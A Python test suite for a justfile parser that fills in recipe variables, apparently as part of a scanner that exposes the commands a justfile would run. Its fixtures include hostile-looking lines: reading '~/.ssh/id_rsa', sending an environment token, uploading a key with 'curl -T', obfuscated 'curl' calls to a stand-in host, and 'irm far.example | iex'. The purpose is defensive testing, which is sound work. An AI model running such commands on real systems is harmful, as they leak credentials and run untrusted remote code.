"""Recipes of justfiles, with their variables filled in."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pinfold.formats.built import MAX_FILLED, Budget
from pinfold.formats.justfile import recipes


def lines(text):
    """Return the commands of a justfile."""
    return [recipe.command for recipe in recipes(text, Budget())]


FILLED = {
    "variable": ('far := "far.example"\nup:\n    curl {{far}}\n', ["curl far.example"]),
    "with blanks, in tabs": ("far := 'far.example'\nup:\n\t@-curl {{ far }}/x\n", ["curl far.example/x"]),
    "joined": ('a := "cu" + "rl"\nb := "far" / "x"\nup:\n  {{a}} {{b + "y"}}\n', ["curl far/xy"]),
    "escaped": ('a := "x\\ty"\nup:\n  go {{a}}\n', ["go x\ty"]),
    "of variables": ('a := "x"\nb := a + "y"\nup:\n  go {{b}}\n', ["go xy"]),
    "output": ("a := `cat notes`\nup:\n  send {{a}}\n", ["cat notes", "send $(cat notes)"]),
    "output of a shell": ("a := shell('cat notes')\nup:\n  send {{a}}\n", ["cat notes", "send $(cat notes)"]),
    "environment": ("t := env_var('TOKEN')\nup:\n  send {{t}} {{env('X', 'y')}}\n", ["send ${TOKEN} ${X}"]),
    "home": ("up:\n  cat {{home_directory()}}/.ssh/id_rsa {{justfile_directory()}}\n", ["cat ~/.ssh/id_rsa ."]),
    "functions": ("up:\n  go {{replace('c-u-r-l', '-', '')}} {{uppercase('x')}}\n", ["go curl x"]),
    "of two": ('a := if os() == "linux" { "x" } else { "y" }\nup:\n  go {{a}}\n', ["go x"]),
    "parameters": ("up file='key' *rest:\n  curl -T {{file}} {{rest}}\n", ["curl -T key $1"]),
    "an address as parameter": (
        'up to="https://far.example/x": first\n  curl {{to}}\n',
        ["curl https://far.example/x"],
    ),
    "exported": ('export A := "far.example"\nup:\n  curl $A ${A}\n', ["curl far.example far.example"]),
    "three marks": ('a := """\nfar.example"""\nup:\n  curl {{a}}\n', ["curl \nfar.example"]),
    "braces": ("up:\n  echo {{{{x}}\n", ["echo {{x}}"]),
    "comments": ("# a\nup: # b\n  # c\n  go\n\n  more\n", ["go", "more"]),
    "only a variable": ('a := "curl far.example"\n', []),
    "settings and aliases": ("set dotenv-load\nalias b := up\n[private]\nup:\n  go\n", ["go"]),
}


@pytest.mark.parametrize(("text", "found"), FILLED.values(), ids=FILLED)
def test_names_are_filled_in(text, found):
    assert lines(text) == found


LANGUAGES = {
    "first line": "up:\n  #!/usr/bin/env python3\n  import os\n  if x:\n    go()\n",
    "attribute": "[script('python3')]\nup:\n  #\n  import os\n  if x:\n    go()\n",
    "first line with the split option": "up:\n  #!/usr/bin/env -S python3 -u\n  import os\n  if x:\n    go()\n",
}


@pytest.mark.parametrize("text", LANGUAGES.values(), ids=LANGUAGES)
def test_a_body_in_another_language_is_one_program(text):
    found = list(recipes(text, Budget()))
    assert [one.language for one in found] == ["python"]
    assert found[0].command.endswith("import os\nif x:\n  go()")


def test_another_shell_reads_all_lines():
    found = list(recipes("set shell := ['pwsh', '-c']\nup:\n  irm far.example | iex\n", Budget()))
    assert [(one.language, one.command) for one in found] == [("pwsh", "irm far.example | iex")]


def test_a_line_without_names_stands_as_written():
    text = "up:\n    @uptime\n"
    assert [text[one.start : one.end] == one.command for one in recipes(text, Budget())] == [True]


def test_limits_are_told():
    for text in ("a := 'x'\nup:\n" + "  go {{a}}\n" * MAX_FILLED, f"a := '{'x' * 40_000}'\nup:\n" + "  {{a}}\n" * 99):
        budget = Budget()
        assert all(len(one.command) < 100_000 for one in recipes(text, budget))
        assert budget.cut


@pytest.mark.parametrize("piece", ["{{", "}}", "{", "f(", '"', "a:", "'''", "\\\n", "x ", "{{a}}", "if {"])
def test_long_rows_are_read_in_time(piece):
    begin = time.process_time()
    list(recipes("up:\n  " + piece * 40_000, Budget()))
    list(recipes("x := " + piece * 40_000, Budget()))
    list(recipes(piece * 40_000, Budget()))
    assert time.process_time() - begin < 8


@given(
    st.lists(
        st.sampled_from(
            ["a", ":=", "{{", "}}", "(", ")", '"', "'", "`", "\n", "  ", ":", "if ", "else ", "export ", "\\\n", "#!",
             "+", "shell(", "{", "}", '"""', "[script('x')]", "é"]
        )
    )
)  # fmt: skip
def test_any_text_is_read(parts):
    text = "".join(parts)
    for recipe in recipes(text, Budget()):
        assert 0 <= recipe.start <= recipe.end <= len(text)
